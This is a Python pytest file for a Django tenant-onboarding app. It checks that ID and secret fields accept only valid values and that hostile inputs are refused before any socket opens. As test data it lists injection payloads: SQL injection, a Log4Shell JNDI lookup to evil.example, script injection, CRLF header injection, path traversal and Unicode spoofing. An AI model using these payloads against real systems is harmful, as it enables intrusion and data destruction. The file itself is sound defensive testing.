"""IDs are taken in one form only; everything else is refused before any socket opens."""

import socket
import uuid
from http import HTTPStatus
from typing import Any, NoReturn

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from onboarding.forms.connection import SecretForm
from onboarding.forms.fields import NOT_A_TENANT
from onboarding.forms.steps import IdentifyForm
from onboarding.models import OnboardingSession
from onboarding.steps.tenant_identified import identify_tenant
from tenantpilot.tenants.models import ProviderConnection
from tests.cast import Cast, sign_in
from tests.ledger import ledger
from tests.onboarding.journeys import SECRET, now

pytestmark = pytest.mark.django_db

GUID = "3f2504e0-4f89-41d3-9a0c-0305e82c3301"
HOSTILE = [
    "",
    " ",
    "contoso",
    "contoso..com",
    "-contoso.com",
    "contoso.com:443",
    "10.0.0.12",
    "common",
    "organizations",
    "consumers",
    "null",
    "0",
    "-1",
    "1e309",
    "true",
    "[]",
    '{"$ne": null}',
    GUID[:-1],
    GUID + "0",
    GUID + GUID,
    GUID.replace("-", ""),
    GUID.replace("-", "_"),
    GUID.replace("-", "–"),
    GUID.replace("-", "\u2011"),
    GUID.replace("3", "３"),  # noqa: RUF001 - a full-width three
    GUID.replace("3", "\u0663"),
    GUID.replace("e", "е"),  # noqa: RUF001 - a Cyrillic e
    GUID.replace("f", "g"),
    GUID.replace("-", "", 1) + "-",
    "3f2504e04f-89-41d3-9a0c-0305e82c3301",
    "{" + GUID + "}",
    "(" + GUID + ")",
    '"' + GUID + '"',
    "'" + GUID + "'",
    "`" + GUID + "`",
    "urn:uuid:" + GUID,
    "uuid:" + GUID,
    "0x" + GUID,
    GUID + "/",
    GUID + "/..",
    "../" + GUID,
    "..%2f" + GUID,
    GUID + "%00",
    GUID + "\x00",
    "\x00" + GUID,
    GUID[:8] + "\x00" + GUID[9:],
    GUID + "?x=y",
    GUID + "#x",
    GUID + "@evil.example",
    "evil.example/" + GUID,
    "https://evil.example/" + GUID,
    "https://login.microsoftonline.com/" + GUID,
    GUID + "\r\nHost: evil.example",
    GUID + "\nx",
    GUID + "\u2028x",
    GUID + " or 1=1",
    GUID + "'; DROP TABLE tenants_tenant; --",
    "${jndi:ldap://evil.example/x}",
    "<script>alert(1)</script>",
    "{{ 7|add:7 }}",
    "%s%n%x",
    "\u202e" + GUID,
    GUID + "\u202e",
    "\u200b" + GUID,
    GUID[:18] + "\u200d" + GUID[18:],
    "\ufeff" + GUID,
    "💥" * 36,
    "a" * 36,
    "-" * 36,
    "A" * 100_000,
    GUID + "," + GUID,
    GUID + ";" + GUID,
    "00000000-0000-0000-0000-00000000000g",
]


@pytest.fixture(autouse=True)
def no_socket(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """Every attempt to reach anybody is noted, and fails."""
    attempts: list[object] = []

    def refuse(*args: Any, **kwargs: Any) -> NoReturn:
        attempts.append(args)
        raise AssertionError("a socket was opened")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    return attempts


def identified(cast: Cast, draft: OnboardingSession) -> OnboardingSession:
    identify_tenant(
        session=draft,
        actor=cast.manager,
        expected_version=1,
        customer_name="Pinecrest",
        directory_id=uuid.uuid4(),
    )
    return now(draft)


def page_of(session: OnboardingSession) -> str:
    return f"/admin/onboarding/{session.pk}/"


def test_there_are_more_than_fifty_hostile_variants() -> None:
    assert len(set(HOSTILE)) >= 50


@pytest.mark.thorough
def test_hostile_tenant_ids_are_refused_before_any_socket_opens(
    cast: Cast, client: Client, draft: OnboardingSession, no_socket: list[object]
) -> None:
    sign_in(client, cast.manager)
    form = {"step": "tenant_identified", "version": "1", "customer_name": "Pinecrest"}

    answers = {text: client.post(page_of(draft), form | {"directory_id": text}) for text in HOSTILE}

    assert {answer.status_code for answer in answers.values()} == {HTTPStatus.UNPROCESSABLE_ENTITY}
    assert not [text for text, answer in answers.items() if "<script>alert(1)" in answer.text]
    assert (now(draft).tenant, now(draft).version) == (None, 1)
    assert (no_socket, ledger()) == ([], [])


@pytest.mark.thorough
def test_hostile_application_ids_are_refused_before_any_socket_opens(
    cast: Cast, client: Client, draft: OnboardingSession, no_socket: list[object]
) -> None:
    session = identified(cast, draft)
    sign_in(client, cast.manager)
    form = {"step": "connection_configured", "version": "2", "client_secret": SECRET}

    answers = {text: client.post(page_of(draft), form | {"client_id": text}) for text in HOSTILE}

    assert {answer.status_code for answer in answers.values()} == {HTTPStatus.UNPROCESSABLE_ENTITY}
    assert not [text for text, answer in answers.items() if SECRET in answer.text]
    assert not ProviderConnection.objects.filter(tenant=session.tenant).exists()
    assert (no_socket, ledger()) == ([], [])


@pytest.mark.parametrize("guid", sorted(NOT_A_TENANT))
def test_ids_that_are_no_customers_are_refused(guid: uuid.UUID) -> None:
    form = IdentifyForm({"version": "1", "customer_name": "x", "directory_id": str(guid)})

    assert form.errors["directory_id"] == ["This is not the ID of a customer's tenant."]


@pytest.mark.parametrize("text", [GUID, GUID.upper(), f"  {GUID}\n", f"\t{GUID}\u00a0"])
def test_id_as_people_copy_it_is_taken(text: str) -> None:
    form = IdentifyForm({"version": "1", "customer_name": "x", "directory_id": text})

    assert form.is_valid()
    assert form.cleaned_data["directory_id"] == uuid.UUID(GUID)


@given(st.text(max_size=60))
def test_nothing_but_a_guid_is_ever_taken(text: str) -> None:
    form = IdentifyForm({"version": "1", "customer_name": "x", "directory_id": text})

    if form.is_valid():
        assert str(form.cleaned_data["directory_id"]) == text.strip().lower()


@pytest.mark.parametrize(
    ("secret", "words"),
    [
        (GUID, "This looks like the secret&#x27;s ID."),
        ("short", "This is not a client secret"),
        ("has a space in it", "This is not a client secret"),
        ("line\nbreak-secret", "This is not a client secret"),
        ("null\x00character", "Null characters are not allowed."),
        ("ünïcödé-secret", "This is not a client secret"),
        ("x" * 257, "This is not a client secret"),
        ("", "Enter the client secret."),
    ],
)
def test_what_is_no_secret_is_refused_and_not_shown(secret: str, words: str) -> None:
    form = SecretForm({"client_id": str(uuid.uuid4()), "client_secret": secret})

    drawn = str(form)

    assert words in drawn
    assert not secret or f'value="{secret}"' not in drawn


@pytest.mark.parametrize(
    ("day", "words"),
    [
        ("2020-01-01", "This day has passed."),
        ("31.03.2030", "Write the day as year"),
        ("2030-02-30", "Write the day as year"),
        ("x" * 500, "Write the day as year"),
    ],
)
def test_day_that_makes_no_sense_is_refused(day: str, words: str) -> None:
    form = SecretForm({"client_id": GUID, "client_secret": SECRET, "secret_expires_on": day})

    assert words in str(form)
